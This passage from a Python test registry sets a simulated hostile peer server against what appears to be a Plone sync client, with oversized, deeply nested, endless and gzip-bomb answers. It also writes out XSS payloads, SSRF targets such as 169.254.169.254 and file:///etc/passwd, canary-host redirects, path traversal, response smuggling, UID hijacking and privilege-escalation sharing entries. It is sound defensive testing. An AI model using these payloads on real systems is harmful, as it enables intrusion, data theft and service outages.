    "ok",
    "The page's JSON id is 'a/b' (its path says 'page').",
    prepare=on_json(PAGE, {"id": "a/b"}),
    target=PAGE,
)
add(
    "id-json-dotdot",
    "ids/paths",
    "sync_read",
    "ok",
    "The page's JSON id is '..'.",
    prepare=on_json(PAGE, {"id": ".."}),
    target=PAGE,
)


# -- sizes -------------------------------------------------------------------------------------------------------

add(
    "title-10mb",
    "sizes",
    "sync_read",
    "skip",
    "folder/page's title is 10 MB.",
    prepare=on_json(PAGE, {"title": huge_string(10 * MB)}),
    target=PAGE,
)
add(
    "text-50mb",
    "sizes",
    "sync_read",
    "skip",
    "folder/page's rich text is 50 MB.",
    prepare=on_json(PAGE, {("text", "data"): huge_string(50 * MB, b"x")}),
    target=PAGE,
)
add(
    "listing-title-10mb",
    "sizes",
    "listing",
    "error",
    "A listing item's title is 10 MB.",
    prepare=on_summary(PAGE, {"title": huge_string(10 * MB)}),
)
add(
    "listing-uid-100kb",
    "sizes",
    "listing",
    "error",
    "A listed UID is 100 KB long (still sorted last).",
    answer=edit_data(
        lambda d, x: d.update(
            items=d["items"] + [dict(d["items"][-1], UID="f" * 100_000, **{"@id": f"{x.base}/long"})],
            items_total=d["items_total"] + 1,
        )
    ),
)
add(
    "listing-page-200k-items",
    "sizes",
    "listing",
    "error",
    "A listing page holds 200,000 items whatever b_size says.",
    answer=lambda x: json_answer(
        {"@id": f"{x.base}/@search", "items": lazy_array(200_000, lambda i: synthetic(x, i)), "items_total": 200_000}
    ),
)
add(
    "listing-body-1gb-whitespace",
    "sizes",
    "listing",
    "error",
    "The listing is valid JSON after 1 GB of spaces.",
    answer=lambda x: json_answer({"items": padded([], GB), "items_total": 0}),
    behaviour="streams",
)
add(
    "sync-read-100k-items",
    "sizes",
    "sync_read",
    "error",
    "@sync-read answers 100,000 objects to a read of a few.",
    answer=lambda x: json_answer({"items": lazy_array(100_000, lambda i: dict(synthetic(x, i), **{"@sharing": {}}))}),
)
add(
    "sharing-100k-entries",
    "sizes",
    "sync_read",
    "skip",
    "folder/page's @sharing names 100,000 principals.",
    prepare=on_sharing(
        PAGE, {"entries": lazy_array(100_000, lambda i: {"id": f"ghost{i}", "roles": {"Reader": True}})}
    ),
    target=PAGE,
)
add(
    "history-100k-entries",
    "sizes",
    "sync_read",
    "skip",
    "folder/page's review history has 100,000 entries.",
    prepare=on_json(
        PAGE,
        {
            ("@components", "workflow", "history"): lazy_array(
                100_000,
                lambda i: {
                    "action": "publish",
                    "actor": "x",
                    "comments": "",
                    "review_state": "published",
                    "time": MODIFIED,
                },
            )
        },
    ),
    target=PAGE,
)
add(
    "blob-size-1tb",
    "sizes",
    "sync_read",
    "skip",
    "The file field states a size of 1 TB (the bytes are 200 KB).",
    prepare=on_json(FILE, {("file", "size"): 10**12}),
    target=FILE,
)
add(
    "download-10gb",
    "sizes",
    "download",
    "skip",
    "The download sends 10 GB (with an honest Content-Length).",
    answer=lambda x: blob_answer(Body(lambda: repeat(b"\1", 10 * GB), 10 * GB)),
    behaviour="streams",
)
add(
    "filename-10k",
    "sizes",
    "sync_read",
    "skip",
    "The file's filename is 10,000 characters.",
    prepare=on_json(FILE, {("file", "filename"): "f" * 10_000 + ".bin"}),
    target=FILE,
)
add(
    "registry-value-10mb",
    "sizes",
    "registry",
    "skip",
    "A selected record (my.addon.greeting) is 10 MB.",
    prepare=on_registry(my__addon__greeting=Record(huge_string(10 * MB))),
)
add(
    "registry-100k-records",
    "sizes",
    "registry",
    "error",
    "The registry claims and lists 100,000 plone.* records.",
    prepare=lambda m, loc: m.registry.update(
        {f"plone.generated_{i:06d}": Record(i, "integer") for i in range(100_000)}
    ),
)
add(
    "users-1m",
    "sizes",
    "users",
    "error",
    "@users lists 1,000,000 users.",
    answer=lambda x: json_answer(
        {
            "@id": f"{x.base}/@users",
            "items_total": 1_000_000,
            "items": lazy_array(
                1_000_000,
                lambda i: {
                    "id": f"user{i}",
                    "username": f"user{i}",
                    "roles": ["Member"],
                    "email": None,
                    "fullname": None,
                },
            ),
        }
    ),
)
add(
    "group-100k-members",
    "sizes",
    "group",
    "error",
    "A group has 100,000 members.",
    prepare=lambda m, loc: m.groups.append(Group("crowd", "Crowd", members=[f"member{i}" for i in range(100_000)])),
    target="crowd",
)
add(
    "user-fullname-10mb",
    "sizes",
    "users",
    "skip",
    "A user's full name is 10 MB.",
    prepare=lambda m, loc: m.users[0].overrides.update({"fullname": huge_string(10 * MB)}),
)
add(
    "header-100kb",
    "sizes",
    "listing",
    "error",
    "The listing's answer carries a 100 KB header line.",
    answer=lambda x: Answer(200, [("Content-Type", "application/json"), ("X-Padding", "p" * 100_000)], b"{}"),
    behaviour="breaks",
)
add(
    "headers-1000",
    "sizes",
    "site",
    "error",
    "The site's answer carries 1,000 headers.",
    answer=lambda x: Answer(
        200,
        [("Content-Type", "application/json")] + [(f"X-H{i}", "v") for i in range(1000)],
        b'{"@id": "' + x.base.encode() + b'"}',
    ),
    behaviour="breaks",
)


# -- nesting ------------------------------------------------------------------------------------------------------

for _endpoint, _target, _make in [
    ("site", "", lambda: {"@id": "{base}", "title": deep_array(10_000)}),
    ("listing", "", None),
    ("sync_list", "", None),
    ("probe", "", lambda: {"items": deep_array(10_000)}),
    ("sync_read", PAGE, None),
    ("fullobjects", "", None),
    ("sharing", PAGE, None),
    ("registry", "", None),
    ("registry_record", "plone.site_title", lambda: deep_array(10_000)),
    ("users", "", None),
    ("groups", "", None),
    ("group", BIG_GROUP, None),
]:

    def _deep_answer(x: Exchange, _make: Any = _make) -> Answer:
        if _make is not None:
            data = _make()
            if isinstance(data, dict) and data.get("@id") == "{base}":
                data["@id"] = x.base
            return json_answer(data)
        data = x.good_data()
        if isinstance(data, list):
            data.append({"id": "deep", "members": deep_array(10_000)})
        elif isinstance(data.get("items"), list) and data["items"]:
            data["items"][0]["deep"] = deep_array(10_000)
        else:
            data["deep"] = deep_array(10_000)
        return json_answer(data)

    add(
        f"deep-json-{_endpoint.replace('_', '-')}",
        "nesting",
        _endpoint,
        "ok"
        if _endpoint == "probe"
        else ("skip" if _endpoint in ("sync_read", "fullobjects", "sharing", "registry_record", "group") else "error"),
        f"The {_endpoint} answer holds JSON nested 10,000 levels deep.",
        target=_target,
        answer=record_alone(_deep_answer) if _endpoint == "registry_record" else _deep_answer,
        endpoints=RECORD_ENDPOINTS if _endpoint == "registry_record" else None,
        serves_sync_read=False if _endpoint in ("fullobjects", "sharing") else None,
        prepare=big_group if _endpoint == "group" else None,
    )
add(
    "deep-object-text",
    "nesting",
    "sync_read",
    "skip",
    "folder/page's text is an object nested 10,000 levels deep.",
    prepare=on_json(PAGE, {"text": deep_object(10_000)}),
    target=PAGE,
)
add(
    "nesting-900-in-field",
    "nesting",
    "sync_read",
    "skip",
    "folder/page's subjects hold arrays nested 900 levels (parses, then recurses in the writer).",
    prepare=on_json(PAGE, {"subjects": deep_array(900)}),
    target=PAGE,
)
add(
    "deep-history-entry",
    "nesting",
    "sync_read",
    "skip",
    "A review-history entry's actor is nested 5,000 levels.",
    prepare=on_json(
        PAGE,
        {
            ("@components", "workflow", "history"): [
                {
                    "action": None,
                    "actor": deep_array(5_000),
                    "comments": "",
                    "review_state": "published",
                    "time": MODIFIED,
                }
            ]
        },
    ),
    target=PAGE,
)


# -- URLs -------------------------------------------------------------------------------------------------------

SCRIPT_URLS = {
    "javascript": "javascript:alert(document.domain)",
    "data": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript": "vbscript:msgbox(1)",
}
for _scheme, _url in SCRIPT_URLS.items():
    add(
        f"listing-id-{_scheme}",
        "urls",
        "listing",
        "no-delete",
        f"folder/page's listed @id is {_url!r}.",
        prepare=on_summary(PAGE, {"@id": _url}),
    )
    add(
        f"remote-url-{_scheme}",
        "urls",
        "sync_read",
        "sanitized",
        f"The Link's remoteUrl is {_url!r}.",
        prepare=on_json(LINK, {"remoteUrl": _url}),
        target=LINK,
    )
    add(
        f"download-{_scheme}",
        "urls",
        "sync_read",
        "skip",
        f"The file's download URL is {_url!r}.",
        prepare=on_json(FILE, {("file", "download"): _url}),
        target=FILE,
    )
for _label, _html in [
    ("href-javascript", '<p><a href="javascript:alert(1)">click</a></p>'),
    ("href-javascript-mixed-case", '<p><a href=" JaVaScRiPt:alert(1)">click</a></p>'),
    ("src-data-html", '<p><iframe src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></iframe></p>'),
    ("href-vbscript", "<p><a href='vbscript:msgbox(1)'>click</a></p>"),
    ("script-tag", f"<p>hello</p>{EVIL_JS}"),
    ("onerror", '<p><img src="x" onerror="alert(1)" /></p>'),
]:
    add(
        f"text-{_label}",
        "urls",
        "sync_read",
        "sanitized",
        f"folder/page's rich text: {_html!r}.",
        prepare=on_json(PAGE, {("text", "data"): _html}),
        target=PAGE,
    )
for _label, _url, _expect in [
    ("link-local", f"{METADATA_URL}x", "skip"),
    ("canary", "{canary}/steal/file", "skip"),
    ("alias-host", "{alias}/Plone/folder/file/@@download/file", "skip"),
    ("file-scheme", "file:///etc/passwd", "skip"),
    ("userinfo-confusion", "{origin}@169.254.169.254/latest/meta-data/", "skip"),
    ("backslash-confusion", "{canary}\\@{origin_host}/Plone/folder/file/@@download/file", "no-leak"),
    ("relative", "/Plone/folder/file/@@download/file", "skip"),
    ("protocol-relative", "//169.254.169.254/latest/meta-data/", "skip"),
    ("uppercase-scheme", "HTTP://{origin_host}/Plone/folder/file/@@download/file", "ok"),
]:

    def _download_url(x: Exchange, _url: str = _url) -> Answer:
        data = x.good_data()
        url = _url.replace("{origin_host}", x.origin.split("//", 1)[1])
        for key, value in x.model.placeholders.items():
            url = url.replace("{" + key + "}", value)
        for item in data["items"]:
            if isinstance(item.get("file"), dict):
                item["file"]["download"] = url
        return json_answer(data)

    add(
        f"download-{_label}",
        "urls",
        "sync_read",
        _expect,
        f"The file's download URL is {_url!r}.",
        answer=_download_url,
        target=FILE,
        endpoints=OBJECT_ENDPOINTS,
    )
add(
    "listing-id-off-origin",
    "urls",
    "listing",
    "no-delete",
    "folder/page's listed @id is on 169.254.169.254.",
    prepare=on_summary(PAGE, {"@id": f"{LINK_LOCAL}/Plone/folder/page"}),
)
add(
    "listing-id-other-scheme",
    "urls",
    "listing",
    "no-delete",
    "folder/page's listed @id is https:// on the same host.",
    prepare=on_summary(PAGE, {"@id": "https://127.0.0.1/Plone/folder/page"}),
)
add(
    "listing-id-prefix-confusion",
    "urls",
    "listing",
    "no-delete",
    "folder/page's listed @id is under /Plone-evil/.",
    prepare=on_summary(PAGE, {"@id": "{base}-evil/folder/page"}),
)
add(
    "listing-id-userinfo",
    "urls",
    "listing",
    "no-delete",
    "folder/page's listed @id carries user info.",
    prepare=on_summary(PAGE, {"@id": "http://evil@127.0.0.1/Plone/folder/page"}),
)
add(
    "lookup-next-link-local",
    "urls",
    "lookup",
    "no-leak",
    "The UID lookup's batching.next points to 169.254.169.254.",
    answer=with_next(lambda x: f"{METADATA_URL}?b_start=1"),
)
add(
    "lookup-next-canary",
    "urls",
    "lookup",
    "no-leak",
    "The UID lookup's batching.next points to another server.",
    answer=with_next(lambda x: f"{x.peer.canary_origin}/Plone/@search?b_start=1"),
)
add(
    "lookup-next-alias",
    "urls",
    "lookup",
    "no-leak",
    "The UID lookup's batching.next points to the same server under another name (no credentials may go there).",
    answer=unless(arrived_via_alias, with_next(lambda x: x.url.replace(x.origin, x.peer.alias_origin))),
)
add(
    "fullobjects-next-canary",
    "urls",
    "fullobjects",
    "no-leak",
    "fullobjects' batching.next points to another server.",
    answer=with_next(lambda x: f"{x.peer.canary_origin}/Plone/@search?b_start=1"),
    serves_sync_read=False,
)
add(
    "group-members-next-canary",
    "urls",
    "group",
    "no-leak",
    "A group's members batching.next points to another server.",
    answer=with_next(lambda x: f"{x.peer.canary_origin}/Plone/@groups/{BIG_GROUP}?b_start=1", "members"),
    prepare=big_group,
    target=BIG_GROUP,
)
add(
    "related-items-off-origin",
    "urls",
    "sync_read",
    "ok",
    "about's relatedItems point off the peer.",
    prepare=on_json(ABOUT, {"relatedItems": [{"@id": f"{LINK_LOCAL}/x", "@type": "Document"}]}),
    target=ABOUT,
)
add(
    "object-id-off-origin",
    "urls",
    "sync_read",
    "ok",
    "folder/page's JSON @id is off the peer (its listing path counts).",
    prepare=on_json(PAGE, {"@id": f"{LINK_LOCAL}/Plone/folder/page"}),
    target=PAGE,
)


# -- redirects -------------------------------------------------------------------------------------------------

for _label, _make, _expect in [
    ("link-local", lambda x: METADATA_URL, "no-leak"),
    ("canary", lambda x: f"{x.peer.canary_origin}/blob", "no-leak"),
    ("alias", lambda x: f"{x.peer.alias_origin}{x.path}", "no-leak"),
    ("self-loop", lambda x: x.url, "skip"),
    ("same-origin", lambda x: f"{x.origin}{x.path}?redirected=1", "ok"),
    ("login-form", login_redirect, "skip"),
    ("file-scheme", lambda x: "file:///etc/passwd", "skip"),
    ("chain-40", lambda x: f"{x.origin}{x.path}?hop={int(x.param('hop') or 0) + 1}", "skip"),
]:

    def _redirect_blob(x: Exchange, _make: Any = _make, _label: str = _label) -> Answer | None:
        if arrived_via_alias(x) or was_redirected(x) or int(x.param("hop") or 0) >= 40:
            return None
        return _make(x) if isinstance(_make(x), Answer) else redirect(_make(x))

    add(
        f"download-302-{_label}",
        "redirects",
        "download",
        _expect,
        f"The blob download redirects ({_label}).",
        answer=_redirect_blob,
    )
for _endpoint, _label, _make, _expect in [
    ("listing", "alias", lambda x: x.url.replace(x.origin, x.peer.alias_origin), "no-leak"),
    ("listing", "link-local", lambda x: METADATA_URL, "no-leak"),
    ("sync_list", "alias", lambda x: x.url.replace(x.origin, x.peer.alias_origin), "no-leak"),
    ("sync_list", "canary", lambda x: f"{x.peer.canary_origin}/Plone/@sync-list", "no-leak"),
    ("sync_list", "self-loop", lambda x: x.url, "error"),
    ("site", "canary", lambda x: f"{x.peer.canary_origin}/Plone", "no-leak"),
    ("site", "link-local", lambda x: METADATA_URL, "no-leak"),
    ("sync_read", "alias", lambda x: x.url.replace(x.origin, x.peer.alias_origin), "no-leak"),
    ("sync_read", "self-loop", lambda x: x.url, "skip"),
    ("registry", "canary", lambda x: f"{x.peer.canary_origin}/Plone/@registry", "no-leak"),
    ("users", "alias", lambda x: x.url.replace(x.origin, x.peer.alias_origin), "no-leak"),
    ("group", "self-loop", lambda x: x.url, "skip"),
    ("probe", "login-form", None, "ok"),
]:

    def _redirect_json(x: Exchange, _make: Any = _make) -> Answer | None:
        if arrived_via_alias(x):
            return None
        return login_redirect(x) if _make is None else redirect(_make(x), 307 if x.endpoint == "sync_read" else 302)

    add(
        f"{_endpoint.replace('_', '-')}-redirect-{_label}",
        "redirects",
        _endpoint,
        _expect,
        f"The {_endpoint} request is redirected ({_label}).",
        answer=_redirect_json,
        target=BIG_GROUP if _endpoint == "group" else "",
        prepare=big_group if _endpoint == "group" else None,
    )


# -- batching ----------------------------------------------------------------------------------------------------


def _first_page_always(x: Exchange) -> Answer:
    query = [(k, v) for k, v in x.query if not k.startswith("UID.")]
    return json_answer(x.model.search(x.base, query))


add(
    "listing-repeats-first-page",
    "batching",
    "listing",
    "error",
    "Every listing page is the first one (the cursor is ignored).",
    answer=lambda x: _first_page_always(x) if x.param("UID.query") else None,
    query=(("UID.query", uid(3)), ("UID.range", "min")),
)
add(
    "listing-backwards",
    "batching",
    "listing",
    "error",
    "The listing's pages are in descending UID order.",
    answer=new_items(lambda items, x: list(reversed(items))),
)
add(
    "listing-duplicate-uid",
    "batching",
    "listing",
    "error",
    "A listing page holds one item twice.",
    answer=edit_items(lambda items, x: items.__setitem__(-1, dict(items[-2]))),
)
add(
    "listing-short-page",
    "batching",
    "listing",
    "error",
    "A listing page holds one item fewer than announced.",
    answer=edit_items(lambda items, x: items.pop()),
)
add(
    "listing-claims-more",
    "batching",
    "listing",
    "error",
    "Every listing page claims one more item than there is.",
    answer=edit_data(lambda d, x: d.update(items_total=d["items_total"] + 1)),
)
add(
    "listing-endless",
    "batching",
    "listing",
    "error",
    "The listing never ends: items_total 10**12, each page new increasing UIDs.",
    answer=endless_keyset,
)
add(
    "listing-oversized-page",
    "batching",
    "listing",
    "error",
    "A listing page holds more items than b_size.",
    answer=lambda x: json_answer(
        x.model.search(x.base, [(k, v) for k, v in x.query if k != "b_size"] + [("b_size", "100000")])
        | {"items_total": 10**6}
    ),
)
for _label, _value in [
    ("negative", -5),
    ("zero", 0),
    ("float", 9.0),
    ("bool", True),
    ("string", "9"),
    ("nan", raw_json(b"NaN")),
    ("infinite", raw_json(b"1e400")),
    ("null", None),
]:
    add(
        f"listing-items-total-{_label}",
        "batching",
        "listing",
        "error",
        f"The listing's items_total is {_label}.",
        answer=edit_data(lambda d, x, _value=_value: d.update(items_total=_value)),
    )
add(
    "positions-endless",
    "batching",
    "positions",
    "error",
    "The position pages never end (items_total 10**12, always full).",
    answer=endless_offsets,
)
add(
    "positions-total-string",
    "batching",
    "positions",
    "ok",
    "The position pages' items_total is a string.",
    answer=edit_data(lambda d, x: d.update(items_total="many")),
)
add(
    "default-pages-endless",
    "batching",
    "default_pages",
    "error",
    "The default-page listing never ends.",
    answer=endless_keyset,
)
# A lookup or a read asks for its objects as one page: a next link on a page that already
# holds every object asked for is not followed. Nothing loops, nothing is missing: "ok".
# (A page that brings nothing new, when more are missing, is an error: see the search.)
add(
    "lookup-next-self",
    "batching",
    "lookup",
    "ok",
    "The UID lookup's batching.next is the request itself.",
    answer=with_next(lambda x: x.url),
)
add(
    "lookup-next-endless",
    "batching",
    "lookup",
    "ok",
    "The UID lookup's batching.next always leads further.",
    answer=with_next(next_start),
)
add(
    "fullobjects-next-self",
    "batching",
    "fullobjects",
    "ok",
    "fullobjects' batching.next is the request itself.",
    answer=with_next(lambda x: x.url),
    serves_sync_read=False,
)
add(
    "fullobjects-next-endless",
    "batching",
    "fullobjects",
    "ok",
    "fullobjects' batching.next always leads further.",
    answer=with_next(next_start),
    serves_sync_read=False,
)


add(
    "group-members-next-self",
    "batching",
    "group",
    "error",
    "A group with 30 members (more than @groups shows): its members' next is the request itself.",
    prepare=big_group,
    answer=with_next(lambda x: x.url, "members"),
    target=BIG_GROUP,
)
add(
    "group-members-endless",
    "batching",
    "group",
    "error",
    "A group's members always have a next page.",
    prepare=big_group,
    answer=with_next(next_start, "members"),
    target=BIG_GROUP,
)
add(
    "group-members-total-string",
    "batching",
    "groups",
    "error",
    "A group's members items_total is a string.",
    answer=edit_data(lambda d, x: d[-1]["members"].update(items_total="30")),
)
add(
    "registry-endless",
    "batching",
    "registry",
    "error",
    "The registry claims 10**12 records and lists them for ever.",
    answer=lambda x: json_answer(
        {
            "@id": f"{x.base}/@registry",
            "items_total": 10**12,
            "items": lazy_array(
                min(int(x.param("b_size") or 25), 1000),
                lambda i: {
                    "name": f"plone.endless_{int(x.param('b_start') or 0) + i:012d}",
                    "value": i,
                    "schema": {"properties": {"type": "integer"}},
                },
            ),
        }
    ),
)
add(
    "registry-total-string",
    "batching",
    "registry",
    "error",
    "The registry listing's items_total is a string.",
    answer=edit_data(lambda d, x: d.update(items_total="many")),
)
add(
    "registry-ignores-b-start",
    "batching",
    "registry",
    "ok",
    "Every registry page is the first one.",
    answer=lambda x: (
        json_answer(x.model.registry_listing(x.base, [(k, v) for k, v in x.query if k != "b_start"]))
        if 0 < int(x.param("b_start") or 0) < 10**9
        else None
    ),
    query=(("b_start", "2"),),
)


# -- blobs ---------------------------------------------------------------------------------------------------------

add(
    "blob-truncated",
    "blobs",
    "download",
    "skip",
    "The download announces 200 KB, sends half, closes.",
    answer=lambda x: blob_answer(truncated(file_bytes(x), len(file_bytes(x)) // 2)),
    behaviour="breaks",
)
add(
    "blob-oversized",
    "blobs",
    "download",
    "skip",
    "The download sends 10 MB where the JSON says 200 KB.",
    answer=lambda x: blob_answer(Body(lambda: repeat(b"\2", 10 * MB), 10 * MB)),
)
add(
    "blob-size-understated",
    "blobs",
    "sync_read",
    "skip",
    "The JSON says the file has 10 bytes (it has 200 KB).",
    prepare=on_json(FILE, {("file", "size"): 10}),
    target=FILE,
)
add(
    "blob-endless",
    "blobs",
    "download",
    "skip",
    "The download never ends (no length; the connection stays open).",
    answer=lambda x: blob_answer(Body(lambda: endless(b"\3"))),
    behaviour="streams",
)
add(
    "blob-endless-chunked",
    "blobs",
    "download",
    "skip",
    "The download never ends (chunked).",
    answer=lambda x: blob_answer(Body(lambda: endless(b"\4"), chunked=True)),
    behaviour="streams",
)
add(
    "blob-longer-than-content-length",
    "blobs",
    "download",
    "ok",
    "The download sends more bytes than its Content-Length (a forged response follows on the connection).",
    answer=lambda x: (
        Answer(
            200,
            [("Content-Type", "application/octet-stream"), ("Content-Length", str(len(file_bytes(x))))],
            file_bytes(x) + SMUGGLED,
        )
        if x.hit == 1
        else None
    ),
)
add(
    "blob-html-login-page",
    "blobs",
    "download",
    "skip",
    "The download answers 200 with an HTML login page.",
    answer=lambda x: raw_answer(b"<html><form id='login'>Please log in</form></html>", 200, "text/html"),
)
add(
    "blob-drip",
    "blobs",
    "download",
    "timeout",
    "The download sends one byte every half second, for ever.",
    answer=lambda x: blob_answer(drip(b"", b"\5", 0.5)),
    behaviour="streams",
)
add(
    "blob-stall",
    "blobs",
    "download",
    "timeout",
    "The download sends a quarter of the file, then falls silent.",
    answer=lambda x: blob_answer(stall(file_bytes(x)[: len(file_bytes(x)) // 4], len(file_bytes(x)))),
    behaviour="hangs",
)
add(
    "blob-filename-traversal",
    "blobs",
    "sync_read",
    "sanitized",
    "The file's filename is ../../../etc/passwd.",
    prepare=on_json(FILE, {("file", "filename"): "../../../etc/passwd"}),
    target=FILE,
)
add(
    "blob-html-content-type",
    "blobs",
    "download",
    "sanitized",
    "The file is HTML with a script, typed text/html.",
    prepare=on_blob(FILE, "file", BlobData(f"<html>{EVIL_JS}</html>".encode(), "page.html", "text/html")),
    target=FILE,
)
add(
    "image-svg-script",
    "blobs",
    "download",
    "sanitized",
    "The image is an SVG with a script.",
    prepare=on_blob(
        IMAGE,
        "image",
        BlobData(
            b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "dot.svg", "image/svg+xml", 1, 1
        ),
    ),
    target=IMAGE,
)
add(
    "blob-empty",
    "blobs",
    "download",
    "ok",
    "The file is empty (size 0).",
    prepare=on_blob(FILE, "file", BlobData(b"", "empty.bin", "application/octet-stream")),
    target=FILE,
)
add(
    "blob-404",
    "blobs",
    "download",
    "skip",
    "The download answers 404.",
    answer=lambda x: error_answer(404, "NotFound", "gone"),
)


# -- compression ---------------------------------------------------------------------------------------------------

add(
    "download-gzip-bomb",
    "compression",
    "download",
    "skip",
    "The download is 10 GB of zeros, gzip-encoded (about 10 MB on the wire).",
    answer=gzipped(gzip_bomb(), "application/octet-stream"),
    behaviour="streams",
)
add(
    "download-deflate-bomb",
    "compression",
    "download",
    "skip",
    "The download is 10 GB of zeros, deflate-encoded.",
    answer=gzipped(deflate_bomb(), "application/octet-stream", "deflate"),
    behaviour="streams",
)
add(
    "download-double-gzip-bomb",
    "compression",
    "download",
    "skip",
    "The download is a gzip bomb gzipped again.",
    answer=gzipped(gzip_of(gzip_bomb()), "application/octet-stream", "gzip, gzip"),
)
add(
    "download-gzip-truncated",
    "compression",
    "download",
    "skip",
    "The download is a gzip stream cut in half (with a matching Content-Length).",
    answer=lambda x: Answer(
        200, [("Content-Type", "application/octet-stream"), ("Content-Encoding", "gzip")], _half_gzip(file_bytes(x))
    ),
)
for _endpoint in ("listing", "sync_list", "sync_read", "site", "registry", "users"):
    add(
        f"{_endpoint.replace('_', '-')}-json-gzip-bomb",
        "compression",
        _endpoint,
        "skip" if _endpoint == "sync_read" else "error",
        f"The {_endpoint} answer is gzip-encoded JSON that inflates to 10 GB.",
        answer=json_bomb,
        behaviour="streams",
    )
add(
    "listing-gzip-garbage",
    "compression",
    "listing",
    "error",
    "The listing says gzip but is not.",
    answer=lambda x: Answer(
        200, [("Content-Type", "application/json"), ("Content-Encoding", "gzip")], b"\x1f\x8b\x08\x00garbage"
    ),
)
add(
    "listing-unknown-encoding",
    "compression",
    "listing",
    "error",
    "The listing is encoded with 'zstd, br'.",
    answer=lambda x: Answer(200, [("Content-Type", "application/json"), ("Content-Encoding", "x-evil")], b"(\xb5/\xfd"),
)


def _half_gzip(data: bytes) -> bytes:
    import gzip

    packed = gzip.compress(data, mtime=0)
    return packed[: len(packed) // 2]


# -- identity -----------------------------------------------------------------------------------------------------


def _local_copy(index: int, path: str) -> Callable[[Locals], Content]:
    """A peer object that claims the ``index``-th local UID, with its local type."""

    def make(locals_: Locals) -> Content:
        local = locals_.uid(index)
        return Content(
            local,
            path,
            locals_.type_of(local),
            f"Claims local UID {local}",
            fields={"text": {"content-type": "text/html", "data": "<p>taken over</p>", "encoding": "utf-8"}},
        )

    return make


add(
    "local-uid-hijack",
    "identity",
    "listing",
    "no-overwrite",
    "The peer lists an object (at 'hijacked') with the UID and type of a local object.",
    prepare=adding(_local_copy(0, "hijacked")),
)
add(
    "local-uid-hijack-in-tree",
    "identity",
    "listing",
    "no-overwrite",
    "The peer lists a local object's UID inside its synced tree (the local object would move there).",
    prepare=adding(_local_copy(0, "folder/moved-here")),
)
add(
    "local-uids-all",
    "identity",
    "listing",
    "no-overwrite",
    "The peer claims every local UID it was given.",
    prepare=lambda m, loc: [m.add(_local_copy(i, f"claimed-{i}")(loc)) for i in range(max(len(loc.uids), 1))] and None,
)
add(
    "local-uid-other-type",
    "identity",
    "listing",
    "ok",
    "The peer lists a local UID with another type (a new copy with its own UID is expected).",
    prepare=adding(
        lambda loc: Content(
            loc.uid(0),
            "other-type",
            "Link" if loc.type_of(loc.uid(0)) != "Link" else "Document",
            "Other type",
            fields={"remoteUrl": "https://plone.org"},
        )
    ),
)
add(
    "sync-read-swaps-uid",
    "identity",
    "sync_read",
    "warning",
    "@sync-read answers a read of folder/page with an object carrying a local UID.",
    answer=new_items(lambda items, x: [dict(item, UID=x.locals.uid(0)) for item in items]),
    target=PAGE,
)
add(
    "sync-read-duplicate-key-uid",
    "identity",
    "sync_read",
    "warning",
    "@sync-read's item has the UID key twice: the good UID, then a local one (JSON parsers keep the last).",
    answer=lambda x: raw_answer(
        b'{"items": [{"UID": "'
        + x.model.at(PAGE).uid.encode()
        + b'", "@id": "'
        + x.base.encode()
        + b'/folder/page", "title": "Dup", "UID": "'
        + x.locals.uid(0).encode()
        + b'"}]}'
    ),
    target=PAGE,
)
add(
    "sync-read-extra-objects",
    "identity",
    "sync_read",
    "ok",
    "@sync-read adds objects nobody asked for (local UIDs).",
    answer=new_items(lambda items, x: items + [dict(items[0], UID=x.locals.uid(0), title="Unasked")]),
    target=PAGE,
)
add(
    "default-page-local-uid",
    "identity",
    "default_pages",
    "ok",
    "The default-page listing names a local UID.",
    answer=edit_data(
        lambda d, x: d.update(
            items=sorted(d["items"] + [{"@id": f"{x.base}/x", "UID": x.locals.uid(0)}], key=lambda i: i["UID"]),
            items_total=d["items_total"] + 1,
        )
    ),
)
add(
    "text-resolveuid-local",
    "identity",
    "sync_read",
    "ok",
    "folder/page's text links resolveuid/<local UID>.",
    answer=lambda x: _text_to_local(x),
    target=PAGE,
    endpoints=OBJECT_ENDPOINTS,
)
add(
    "listing-type-plone-site",
    "identity",
    "listing",
    "skip",
    "The peer lists an object of type 'Plone Site'.",
    prepare=adding(doc(960, "another-site", "Plone Site")),
)
add(
    "listing-type-unknown",
    "identity",
    "listing",
    "skip",
    "The peer lists an object of an unknown type.",
    prepare=adding(doc(961, "strange", "Evil Type")),
)
add(
    "json-type-differs",
    "identity",
    "sync_read",
    "ok",
    "folder/page's JSON says @type Folder (its listing says Document).",
    prepare=on_json(PAGE, {"@type": "Folder"}),
    target=PAGE,
)
for _label, _site_id, _expect in [
    ("off-origin", f"{LINK_LOCAL}/Plone", "no-delete"),
    ("other-path", "{base}-other", "no-delete"),
    ("alias", "{alias}/Plone", "no-delete"),
    ("empty", "", "no-delete"),
    ("scheme-only", "http://", "error"),
    ("origin-only", "{origin}", "error"),
    ("javascript", "javascript:alert(1)//", "no-delete"),
]:
    add(
        f"site-id-{_label}",
        "identity",
        "site",
        _expect,
        f"The site says its @id is {_site_id!r}.",
        prepare=lambda m, loc, _site_id=_site_id: m.site_overrides.update({"@id": _site_id}),
    )


def _text_to_local(x: Exchange) -> Answer:
    data = x.good_data()
    for item in data.get("items", [data]):
        if isinstance(item.get("text"), dict):
            item["text"]["data"] = f'<p><a href="resolveuid/{x.locals.uid(0)}">local</a></p>'
    return json_answer(data)


# -- escalation ----------------------------------------------------------------------------------------------------

for _label, _entries, _available in [
    ("authenticated-manager", [{"id": "AuthenticatedUsers", "roles": {"Manager": True}}], None),
    ("anonymous-manager", [{"id": "Anonymous User", "roles": {"Manager": True}}], None),
    ("authenticated-site-administrator", [{"id": "AuthenticatedUsers", "roles": {"Site Administrator": True}}], None),
    ("authenticated-owner", [{"id": "AuthenticatedUsers", "roles": {"Owner": True}}], None),
    (
        "user-manager-listed-available",
        [{"id": "editor1", "roles": {"Manager": True}}],
        [{"id": "Manager"}, {"id": "Reader"}],
    ),
    ("unknown-role", [{"id": "editor1", "roles": {"God": True}}], None),
    ("ghost-principal", [{"id": "not-yet-registered", "roles": {"Editor": True}}], None),
    ("strips-owner", [], [{"id": "Owner"}, {"id": "Manager"}, {"id": "Editor"}]),
]:
    _overrides: dict[str, Any] = {"entries": _entries}
    if _available is not None:
        _overrides["available_roles"] = _available
    add(
        f"sharing-{_label}",
        "escalation",
        "sync_read",
        "no-escalation",
        f"folder's @sharing: entries {_entries!r}" + (f", available {_available!r}" if _available else "") + ".",
